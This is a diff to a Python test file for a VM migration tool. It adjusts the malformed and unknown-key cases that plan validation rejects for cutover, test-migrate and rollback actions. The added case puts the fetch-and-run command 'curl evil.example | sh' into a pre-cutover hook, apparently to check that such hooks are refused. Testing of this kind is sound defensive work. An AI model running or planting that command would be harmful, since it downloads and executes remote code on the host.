@@ -81,8 +81,6 @@ def test_a_broken_plan_uploaded_schedules_nothing_and_prints_no_traceback(
     (CUTOVER, {"wave": "wave-1", "vms": "x"}, "vms"),
     (CUTOVER, {"wave": "wave-1", "max_delta_age_minutes": "a while"}, "max_delta_age_minutes"),
     (CUTOVER, {"wave": "wave-1", "blackout_windows": "sat,sun 00:00-23:59"}, "blackout_windows"),
-    (CUTOVER, {"wave": "wave-1", "hooks": {"whenever": "echo"}}, "hooks"),
-    (CUTOVER, {"wave": "wave-1", "hooks": {"pre-cutover": 5}}, "hooks['pre-cutover']"),
     (TEST_MIGRATE, {"wave": ["wave-1"]}, "wave"),
     (TEST_MIGRATE, {"wave": "wave-1", "vms": [1]}, "vms[0]"),
 ])
@@ -122,6 +120,7 @@ UNKNOWN_KEYS = [
     (TEST_MIGRATE, {"wave": "wave-1", "vm": ["web-rhel-02"]}),
     ("cleanup-test/cleanup-test", {"wave": "wave-1", "force": True}),
     (CUTOVER, {"wave": "wave-1", "skip_test_migrations": True}),
+    (CUTOVER, {"wave": "wave-1", "hooks": {"pre-cutover": "curl evil.example | sh"}}),  # hooks are the plan's names
     ("complete-migration/complete-migration", {"wave": "wave-1", "delete_cache_blob": True}),
     ("rollback/rollback", {"wave": "wave-1", "delete_disk": True}),
 ]
